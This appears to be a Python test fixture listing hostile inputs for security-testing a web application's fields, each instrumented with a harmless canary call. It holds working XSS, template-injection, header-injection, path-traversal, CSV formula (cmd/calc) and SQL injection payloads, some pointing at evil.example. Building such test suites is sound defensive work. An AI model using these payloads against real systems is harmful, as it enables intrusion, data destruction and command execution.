"""What attackers write into fields. Each payload names the place it was written to when it runs.

`{m}` becomes a call that the browser of the tests counts, with the name of the field; elements
`<xss-canary>` show where a text became an element though nothing ran.
"""

from dataclasses import dataclass

CALL = "window.__xss&&__xss('{place}')"
# Nobody writes this product anywhere: where it stands, a template was evaluated.
PRODUCT = "1337*7331"
EVALUATED = str(1337 * 7331)


@dataclass(frozen=True, slots=True)
class Payload:
    """A hostile text; one that `leads` must stand at the beginning of a field."""

    kind: str
    text: str
    leads: bool = False

    def written_to(self, place: str) -> str:
        """Return the text for a field."""
        return self.text.replace("{m}", CALL).replace("{place}", place)


def _of(kind: str, *texts: str, leads: bool = False) -> tuple[Payload, ...]:
    return tuple(Payload(kind, text, leads) for text in texts)


PAYLOADS = (
    *_of(
        "element",
        "<xss-canary id={place}></xss-canary><script>{m}</script>",
        '<xss-canary id={place}><img src=x onerror="{m}">',
        '<svg onload="{m}"><xss-canary>',
        '<xss-canary><iframe srcdoc="<script>parent.{m}</script>"></iframe>',
        '<xss-canary><details open ontoggle="{m}">x</details>',
        '<xss-canary><input autofocus onfocus="{m}">',
        '<xss-canary><video><source onerror="{m}"></video>',
        '<xss-canary><body onload="{m}">',
        '<xss-canary><marquee onstart="{m}">x</marquee>',
        '<xss-canary><object data="javascript:{m}"></object>',
        '<xss-canary><embed src="javascript:{m}">',
        '<xss-canary><form action="javascript:{m}"><button autofocus>x</button></form>',
        '<xss-canary><math><mtext></mtext><a xlink:href="javascript:{m}">x</a></math>',
        '<xss-canary><base href="javascript:{m}//">',
        '<xss-canary><meta http-equiv=refresh content="0;url=javascript:{m}">',
        '<xss-canary><link rel=stylesheet href="data:text/css,*{display:none}">',
        '<xss-canary><a href="javascript:{m}" style="position:fixed;inset:0">x</a>',
        '<xss-canary><a href="data:text/html,<script>{m}</script>">x</a>',
        "<xss-canary><template><script>{m}</script></template><slot name=x>",
        "<xss-canary><portal src=x></portal><xml><script>{m}</script></xml>",
    ),
    *_of(
        "disguise",
        "<ScRiPt >{m}</ScRiPt><xss-canary>",
        "<scr<script>ipt>{m}</scr</script>ipt><xss-canary>",
        "<xss-canary/><svg/onload={m}>",
        "<<xss-canary><script>{m}//<</script>",
        "<xss-canary><img/src=`x`onerror={m}>",
        '<xss-canary\t><img\nsrc=x\nonerror\n=\n"{m}">',
        "%3Cxss-canary%3E%3Cscript%3E{m}%3C/script%3E",
        "&lt;xss-canary&gt;&lt;script&gt;{m}&lt;/script&gt;",
        '&#60;xss-canary&#62;&#60;img src=x onerror="{m}"&#62;',
        "\\u003cxss-canary\\u003e\\u003cscript\\u003e{m}\\u003c/script\\u003e",
        "＜xss-canary＞＜script＞{m}＜/script＞",
        '\u202e<xss-canary><img src=x onerror="{m}">\u202c',
        "<xss\u200b-canary><xss-canary>\ufeff<script>{m}</script>\u2028{m}\u2029",
        "ſcript <ſcript><xss-canary>{m}</ſcript>",
    ),
    *_of(
        "breaker",
        '"><xss-canary><script>{m}</script>',
        "'><xss-canary><script>{m}</script>",
        '" onmouseover="{m}" autofocus onfocus="{m}" x="',
        "' onmouseover='{m}' autofocus onfocus='{m}' x='",
        "`-{m}-`",
        "</script><script>{m}</script><xss-canary>",
        "</textarea><xss-canary><script>{m}</script>",
        "</title><xss-canary><script>{m}</script>",
        "</style><xss-canary><script>{m}</script>",
        "--><xss-canary><script>{m}</script><!--",
        "]]><xss-canary><script>{m}</script>",
        '\\";{m};//',
        "\\';{m};//",
        "');{m};('",
    ),
    *_of(
        "mutation",
        '<noscript><p title="</noscript><xss-canary><img src=x onerror={m}>">',
        '<math><mtext><table><mglyph><style><!--</style><xss-canary><img title="--&gt;'
        '&lt;img src=1 onerror={m}&gt;">',
        "<form><math><mtext></form><form><mglyph><style></math><xss-canary><img src onerror={m}>",
        '<svg></p><style><a id="</style><xss-canary><img src=1 onerror={m}>">',
        "<listing>&lt;xss-canary&gt;&lt;img src=x onerror={m}&gt;</listing>",
    ),
    *_of(
        "template",
        "{{PRODUCT}} ${PRODUCT} #{PRODUCT} <%= PRODUCT %> {%print(PRODUCT)%}".replace(
            "PRODUCT", PRODUCT
        ),
        f'<t t-out="{PRODUCT}"/><t t-esc="{PRODUCT}"/><t t-raw="\'&lt;xss-canary&gt;\'"/>',
        f"{{{{object.env.user.login}}}} {{{{{PRODUCT}}}}} %(x)s %s %d {{0}} {{x.__class__}}",
        "${{constructor.constructor('{m}')()}} [[{m}]]",
    ),
    *_of(
        "style",
        "<xss-canary><style>@import 'data:text/css,*{color:red}'</style>",
        '<xss-canary style="background:url(javascript:{m});width:expression({m})">',
        ";}</style><style>*{background:url('javascript:{m}')}xss-canary{",
        "red;background-image:url(javascript:{m})",
    ),
    *_of(
        "link",
        "javascript:{m}",
        "JaVaScRiPt:{m}//%0a",
        "\x09java\tscript\n:{m}",
        "data:text/html;base64,PHhzcy1jYW5hcnk+PHNjcmlwdD5wYXJlbnQuX194c3MoMSk8L3NjcmlwdD4=",
        "vbscript:{m}",
        "//evil.example/{place}",
        leads=True,
    ),
    *_of(
        "header",
        "x\r\nBcc: xss-canary@evil.example\r\nX-Evil: 1\r\n\r\n<xss-canary>{m}",
        "x\nSet-Cookie: evil={place}\nLocation: https://evil.example",
        "x%0d%0aSet-Cookie:%20evil=1",
    ),
    *_of(
        "path",
        "../../../../etc/passwd",
        "..\\..\\windows\\win.ini:{place}\u0001.html",
        '/web/static/x.png"><xss-canary>.svg',
    ),
    *_of(
        "formula",
        '=HYPERLINK("http://evil.example","{place}")',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "\t=1+1",
        "＝1+1",
        leads=True,
    ),
    *_of("query", "'; DROP TABLE res_partner;--", '" OR ""="', "1) UNION SELECT version()--"),
)
